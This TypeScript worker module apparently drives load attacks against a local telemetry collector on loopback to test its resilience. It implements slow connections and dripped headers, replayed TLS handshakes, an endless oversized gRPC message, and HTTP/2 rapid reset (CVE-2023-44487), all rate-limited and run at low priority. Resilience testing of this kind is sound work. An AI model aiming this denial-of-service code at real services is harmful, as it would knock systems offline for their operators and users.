/**
 * What strangers do to central's port for telemetry, in a process of its own behind all others (nice), at a limited rate, from another
 * address of loopback than programs in order; driven over its channel.
 */
import { once } from "node:events";
import { type ClientHttp2Session, connect as connectHttp2, constants } from "node:http2";
import { connect, createServer, type AddressInfo, type Socket } from "node:net";
import { setPriority } from "node:os";
import type { Duplex } from "node:stream";
import { setTimeout as wait } from "node:timers/promises";
import { connect as connectTls, type ConnectionOptions, type TLSSocket } from "node:tls";
import { answerQuestions } from "./worker.ts";

/** One attack; how much of it there was is told. */
export interface AttackOrder {
  readonly kind: keyof typeof ATTACKS;
  readonly port: number;
  readonly rootPem: string;
  readonly token: string;
  /** Attempts a second: connections, or calls that are too long. */
  readonly perSecond: number;
  /** No more than that, where the attempts stay. */
  readonly most?: number;
  readonly durationMs: number;
}

const NICE = 19;
const TICK_MS = 5;
const FROM = { host: "127.0.0.1", localAddress: "127.0.0.2" } as const;
const MIB = 1024 * 1024;
const TOO_LONG = 100 * MIB;
const DRIP_MS = 500;
const RESETS_A_TURN = 50;
const PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const { NGHTTP2_CANCEL } = constants;

type Attempt = (order: AttackOrder, held: Held) => Promise<void>;

/** What is open, so that it is gone when the attack is over. */
interface Held {
  readonly open: Set<{ destroy(): unknown }>;
  session: ClientHttp2Session | undefined;
  attempts: number;
  isOver: boolean;
}

const ATTACKS = {
  /** Every eighth of them slow in another way, from silence to headers that never end. */
  slow: async (order: AttackOrder, held: Held) => beSlow(order, held),
  /** Refused by their TLS version: they cost central a look at their first message. */
  refused: async (order: AttackOrder, held: Held) => failHandshake(order, held, TLS12),
  /** Cut behind central's half: they cost it a key exchange and a signature. */
  cut: async (order: AttackOrder, held: Held) => failHandshake(order, held, TLS13),
  large: async (order: AttackOrder, held: Held) => sendTooLong(order, held),
  resets: async (order: AttackOrder, held: Held) => resetRapidly(order, held),
} satisfies Record<string, Attempt>;

const TLS12: ConnectionOptions = { maxVersion: "TLSv1.2", minVersion: "TLSv1.2" };
const TLS13: ConnectionOptions = { minVersion: "TLSv1.3", ALPNProtocols: ["h2"] };
const hellos = new Map<ConnectionOptions, Promise<Buffer>>();

setPriority(NICE);

answerQuestions({
  attack: async (order: AttackOrder): Promise<number> => {
    const held: Held = { open: new Set(), session: undefined, attempts: 0, isOver: false };
    const most = order.most ?? Number.POSITIVE_INFINITY;
    const began = performance.now();
    const elapsed = (): number => performance.now() - began;
    while (elapsed() < order.durationMs) {
      const due = Math.min(most, (elapsed() * order.perSecond) / 1_000);
      while (held.attempts < due) {
        held.attempts += 1;
        // How an attempt ends is not the question.
        ATTACKS[order.kind](order, held).catch(() => {});
      }
      await wait(TICK_MS);
    }
    held.isOver = true;
    for (const one of held.open) one.destroy();
    return held.attempts;
  },
});

function hold<One extends Duplex | ClientHttp2Session>(one: One, { open, isOver }: Held): One {
  open.add(one);
  one.on("error", () => {});
  one.once("close", () => open.delete(one));
  // What was still on its way there when the attack ended comes too late.
  if (isOver) one.destroy();
  return one;
}

async function dialTcp({ port }: AttackOrder, held: Held): Promise<Socket> {
  const socket = hold(connect({ ...FROM, port }), held);
  socket.resume();
  await once(socket, "connect");
  return socket;
}

async function dialSecured(order: AttackOrder, held: Held, protocol: string): Promise<TLSSocket> {
  const { port, rootPem } = order;
  const shown = { ca: rootPem, servername: "localhost", ALPNProtocols: [protocol] };
  const socket = hold(connectTls({ ...FROM, port, ...shown }), held);
  await once(socket, "secureConnect");
  return socket;
}

async function beSlow(order: AttackOrder, held: Held): Promise<void> {
  const hello = await helloOf(TLS13);
  const secured = (protocol: string) => dialSecured(order, held, protocol);
  const ways: readonly (() => Promise<unknown>)[] = [
    () => dialTcp(order, held),
    async () => (await dialTcp(order, held)).write(hello.subarray(0, hello.length / 2)),
    async () => (await dialTcp(order, held)).write(hello),
    () => secured("h2"),
    async () => (await secured("h2")).write(PREFACE.slice(0, 9)),
    async () => (await secured("h2")).write(PREFACE),
    () => secured("http/1.1"),
    async () => drip(await secured("http/1.1")),
  ];
  await ways[held.attempts % ways.length]?.();
}

/** One header after the other, and never the last. */
function drip(stream: Duplex): void {
  stream.write("POST /v1/traces HTTP/1.1\r\nhost: localhost\r\n");
  const timer = setInterval(() => stream.write("x: y\r\n"), DRIP_MS);
  stream.once("close", () => clearInterval(timer));
}

/** The first message alone, said by heart: this end spends nothing on it. */
async function failHandshake(
  order: AttackOrder,
  held: Held,
  options: ConnectionOptions,
): Promise<void> {
  const hello = await helloOf(options);
  const socket = await dialTcp(order, held);
  socket.write(hello);
  socket.once("data", () => socket.destroy());
}

function helloOf(options: ConnectionOptions): Promise<Buffer> {
  const known = hellos.get(options) ?? recordHello(options);
  hellos.set(options, known);
  return known;
}

async function recordHello(options: ConnectionOptions): Promise<Buffer> {
  const server = createServer().listen(0, "127.0.0.1");
  await once(server, "listening");
  const { port } = server.address() as AddressInfo;
  const dialler = connectTls({ host: "127.0.0.1", port, servername: "localhost", ...options });
  dialler.on("error", () => {});
  const [socket] = (await once(server, "connection")) as [Socket];
  const [hello] = (await once(socket, "data")) as [Buffer];
  dialler.destroy();
  socket.destroy();
  server.close();
  return hello;
}

async function openSession(order: AttackOrder, held: Held): Promise<ClientHttp2Session> {
  const socket = await dialSecured(order, held, "h2");
  return hold(connectHttp2("https://localhost", { createConnection: () => socket }), held);
}

const headersOf = ({ token }: AttackOrder) => ({
  ":method": "POST",
  ":path": "/skywalking.v3.ManagementService/keepAlive",
  "content-type": "application/grpc",
  te: "trailers",
  authentication: token,
});

/** Sends one message that is too long over the connection that there is, as far as anybody takes it. */
async function sendTooLong(order: AttackOrder, held: Held): Promise<void> {
  const isUsable = held.session !== undefined && !held.session.closed && !held.session.destroyed;
  if (!isUsable) held.session = await openSession(order, held);
  const stream = held.session?.request(headersOf(order));
  if (stream === undefined) return;
  stream.on("error", () => {});
  const message = Buffer.alloc(MIB);
  message.writeUInt32BE(TOO_LONG, 1);
  const more = (): void => {
    if (!stream.destroyed && !stream.closed) stream.write(message, more);
  };
  stream.resume();
  more();
}

/** Opens calls and takes them back at once, until the connection is ended (CVE-2023-44487). */
async function resetRapidly(order: AttackOrder, held: Held): Promise<void> {
  const session = await openSession(order, held);
  const headers = headersOf(order);
  while (!session.closed && !session.destroyed) {
    for (let each = 0; each < RESETS_A_TURN && !session.closed && !session.destroyed; each += 1) {
      const stream = session.request(headers);
      stream.on("error", () => {});
      stream.close(NGHTTP2_CANCEL);
    }
    await wait(1);
  }
}

process.once("SIGTERM", () => process.exit(0));
process.once("disconnect", () => process.exit(0));
